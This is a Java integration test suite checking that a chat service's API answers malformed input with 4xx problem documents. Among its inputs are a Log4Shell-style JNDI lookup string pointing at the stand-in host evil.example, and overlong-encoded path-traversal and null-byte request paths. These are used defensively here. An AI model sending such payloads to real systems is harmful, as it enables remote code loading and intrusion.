package dev.carrier.chat.web;

import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;

import dev.carrier.chat.support.IntegrationTestSupport;
import dev.carrier.chat.support.StubAuthService;
import dev.carrier.chat.support.StubAuthService.User;
import dev.carrier.testsupport.TestTrust;
import dev.carrier.chat.support.WsClient;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * What the fuzz suite threw at chat-service: every piece of bad input gets a 4xx problem
 * document with type, title, status and detail, and changes nothing.
 */
class BadInputIntegrationTests extends IntegrationTestSupport {

	@Test
	void scalarsOfTheWrongTypeAreRejectedAndNothingIsSent() {
		User alice = AUTH.newUser("alice");
		User bob = AUTH.newUser("bob");
		String chatId = createChat(alice, null, bob).path("id").asString();
		String messages = "/api/chats/" + chatId + "/messages";

		assertProblem(post(messages, alice.id(), "{\"text\":12,\"clientMessageId\":\"c1\"}"), 400);
		assertProblem(post(messages, alice.id(), "{\"text\":\"hi\",\"clientMessageId\":24}"), 400);
		assertProblem(post(messages, alice.id(), "{\"text\":true,\"clientMessageId\":\"c2\"}"), 400);
		Reply typed = post(messages, alice.id(), "{\"text\":12,\"clientMessageId\":\"c3\"}");
		assertThat(typed.json().path("detail").asString()).contains("text");

		assertThat(get(messages, alice.id()).json()).isEmpty();
	}

	@Test
	void aReadPositionThatIsNotAnIntegerIsRejectedAndChangesNothing() {
		User alice = AUTH.newUser("alice");
		User bob = AUTH.newUser("bob");
		String chatId = createChat(alice, null, bob).path("id").asString();
		send(chatId, bob, "one");
		send(chatId, bob, "two");
		String read = "/api/chats/" + chatId + "/read";

		assertProblem(post(read, alice.id(), "{\"seq\":\"1\"}"), 400);
		assertProblem(post(read, alice.id(), "{\"seq\":1.5}"), 400);
		assertProblem(post(read, alice.id(), "{\"seq\":\"2\"}"), 400);

		assertThat(get("/api/chats", alice.id()).json().get(0).path("unread").asLong()).isEqualTo(2);
		assertThat(post(read, alice.id(), "{\"seq\":2}").status()).isEqualTo(204);
	}

	@Test
	void aQueryStringThatIsNoUtf8IsA400Problem() {
		User alice = AUTH.newUser("alice");
		User bob = AUTH.newUser("bob");
		String chatId = createChat(alice, null, bob).path("id").asString();

		assertProblem(get("/api/search?q=ghost&chatId=%C0%AE%C0%AE", alice.id()), 400);
		assertProblem(get("/api/chats/" + chatId + "/export?format=%FF%FE", alice.id()), 400);
	}

	@Test
	void aWildcardContentTypeIsAProblemNotAServerError() {
		User alice = AUTH.newUser("alice");
		User bob = AUTH.newUser("bob");
		String chatId = createChat(alice, null, bob).path("id").asString();

		Reply send = call(this.port, "POST", "/api/chats/" + chatId + "/messages", alice.id(),
				"{\"text\":\"hi\",\"clientMessageId\":\"c1\"}", "*/*");
		Reply read = call(this.port, "POST", "/api/chats/" + chatId + "/read", alice.id(), "{\"seq\":0}", "*/*");
		Reply create = call(this.port, "POST", "/api/chats", alice.id(),
				"{\"members\":[\"" + AUTH.newUser("carol").username() + "\"]}", "*/*");

		for (Reply reply : List.of(send, read, create)) {
			assertProblem(reply, 415);
		}
		assertThat(get("/api/chats/" + chatId + "/messages", alice.id()).json()).isEmpty();
	}

	@Test
	void aMemberNameThatCannotBeAUserIsRejectedBeforeAskingAuthService() {
		User alice = AUTH.newUser("alice");
		List<String> bad = List.of("\u0000", "bob\u0007", "line\nbreak", " ", "x".repeat(300), "a", "tab\tin");

		for (String member : bad) {
			Reply reply = post("/api/chats", alice.id(), Map.of("members", List.of(member)));
			assertProblem(reply, 400);
			assertThat(reply.json().path("detail").asString()).contains("members");
		}
		User bob = AUTH.newUser("bob");
		String chatId = createChat(alice, "group", bob, AUTH.newUser("carol")).path("id").asString();
		assertProblem(post("/api/chats/" + chatId + "/members", alice.id(), Map.of("members", List.of("\u0000"))), 400);

		for (String member : bad) {
			assertThat(AUTH.wasLookedUp(member) || AUTH.wasLookedUp(member.trim())).as(member).isFalse();
		}
		assertThat(get("/api/chats", alice.id()).json()).hasSize(1);
	}

	@Test
	void aMemberThatAuthServiceRefusesToLookUpIsUnknownNotAnOutage() {
		User alice = AUTH.newUser("alice");

		Reply reply = post("/api/chats", alice.id(),
				Map.of("members", List.of(StubAuthService.REFUSED_LOOKUP_PREFIX + "someone")));

		assertProblem(reply, 404);
		assertThat(get("/api/chats", alice.id()).json()).isEmpty();
	}

	@Test
	void aMemberIsLookedUpExactlyAsTypedWhateverItsCharacters() {
		User alice = AUTH.newUser("alice");
		User tagged = AUTH.newUser("bob", "+carrier@example.test");
		String braces = "${jndi:ldap://evil.example/a}@example.test";

		Reply unknown = post("/api/chats", alice.id(), Map.of("members", List.of(braces)));
		Reply found = post("/api/chats", alice.id(), Map.of("members", List.of(tagged.email())));

		assertProblem(unknown, 404);
		assertThat(AUTH.wasLookedUp(braces)).isTrue();
		assertThat(found.status()).as(found.body()).isEqualTo(201);
		assertThat(found.json().path("chat").path("members").findValuesAsString("id")).contains(tagged.id());
	}

	@Test
	void requestsTomcatRejectsGetAProblemDocumentNotAnHtmlPage() throws Exception {
		User alice = AUTH.newUser("alice");
		String chatId = createChat(alice, null, AUTH.newUser("bob")).path("id").asString();

		for (String target : List.of("/api/chats/" + chatId + "%00", "/api/chats/" + chatId + "%C0%AE%C0%AE",
				"/api/chats/" + chatId + "%FF%FE", "/api/chats/" + chatId + "/messages?beforeSeq=[1]")) {
			RawReply reply = raw("GET " + target + " HTTP/1.1\r\nHost: localhost\r\nX-Carrier-Identity: "
					+ TestTrust.identity(alice.id()) + "\r\nConnection: close\r\n\r\n");
			assertThat(reply.status()).as(target).isBetween(400, 499);
			assertThat(reply.header("content-type")).as(target).startsWith("application/problem+json");
			assertProblemFields(JSON.readTree(reply.body()), reply.status());
		}
	}

	@Test
	void wrongMethodsAndErrorsReachingTheErrorPageAreProblemDocuments() throws Exception {
		RawReply trace = raw("TRACE /api/chats HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
		assertThat(trace.status()).isEqualTo(405);
		assertThat(trace.header("content-type")).startsWith("application/problem+json");
		assertProblemFields(JSON.readTree(trace.body()), 405);

		Reply error = call("GET", "/error", null, null);
		assertThat(error.contentType()).startsWith("application/problem+json");
		assertProblemFields(error.json(), error.status());
		assertThat(error.body()).doesNotContain("timestamp");
	}

	@Test
	void frameworkProblemsCarryAType() {
		User alice = AUTH.newUser("alice");

		assertProblem(post("/api/chats", alice.id(), "{"), 400);
		assertProblem(call("DELETE", "/api/chats", alice.id(), null), 405);
		assertProblem(get("/api/nothing-here", alice.id()), 404);
		assertProblem(post("/api/chats", alice.id(), "{}"), 400);
	}

	@Test
	void anOversizedWebSocketFrameIsClosedWith1009AndTheServerStaysHealthy() {
		User alice = AUTH.newUser("alice");
		try (WsClient ws = WsClient.ready(this.port, alice.token())) {
			ws.send("{\"type\":\"ping\",\"pad\":\"" + "x".repeat(200 * 1024) + "\"}");
			await().atMost(Duration.ofSeconds(10)).until(() -> ws.closeCode != null);
			assertThat(ws.closeCode).isEqualTo(1009);
		}
		try (WsClient again = WsClient.ready(this.port, alice.token())) {
			assertThat(again.hasType("ready")).isTrue();
		}
		assertThat(get("/actuator/health", null).status()).isEqualTo(200);
	}

	private static void assertProblem(Reply reply, int status) {
		assertThat(reply.status()).as(reply.body()).isEqualTo(status);
		assertThat(reply.contentType()).startsWith("application/problem+json");
		assertProblemFields(reply.json(), status);
	}

	private static void assertProblemFields(JsonNode problem, int status) {
		assertThat(problem.path("status").asInt()).isEqualTo(status);
		assertThat(problem.path("type").asString()).startsWith("https://carrier.dev/problems/");
		assertThat(problem.path("title").asString()).isNotBlank();
		assertThat(problem.path("detail").asString()).isNotBlank();
	}

	/**
	 * A request written byte for byte: the JDK client refuses such URIs before sending
	 * them.
	 */
	private RawReply raw(String request) throws Exception {
		try (Socket socket = new Socket("127.0.0.1", this.port)) {
			socket.setSoTimeout(10_000);
			OutputStream out = socket.getOutputStream();
			out.write(request.getBytes(StandardCharsets.ISO_8859_1));
			out.flush();
			InputStream in = socket.getInputStream();
			ByteArrayOutputStream bytes = new ByteArrayOutputStream();
			in.transferTo(bytes);
			String text = bytes.toString(StandardCharsets.UTF_8);
			int split = text.indexOf("\r\n\r\n");
			String head = text.substring(0, split);
			String body = text.substring(split + 4);
			if (head.toLowerCase().contains("transfer-encoding: chunked")) {
				body = unchunk(body);
			}
			return new RawReply(head, body);
		}
	}

	private static String unchunk(String chunked) {
		StringBuilder body = new StringBuilder();
		int at = 0;
		while (true) {
			int lineEnd = chunked.indexOf("\r\n", at);
			int size = Integer.parseInt(chunked.substring(at, lineEnd).trim(), 16);
			if (size == 0) {
				return body.toString();
			}
			body.append(chunked, lineEnd + 2, lineEnd + 2 + size);
			at = lineEnd + 2 + size + 2;
		}
	}

	private record RawReply(String head, String body) {

		int status() {
			return Integer.parseInt(this.head.split(" ")[1]);
		}

		String header(String name) {
			for (String line : this.head.split("\r\n")) {
				int colon = line.indexOf(':');
				if (colon > 0 && line.substring(0, colon).trim().equalsIgnoreCase(name)) {
					return line.substring(colon + 1).trim();
				}
			}
			return "";
		}

	}

}
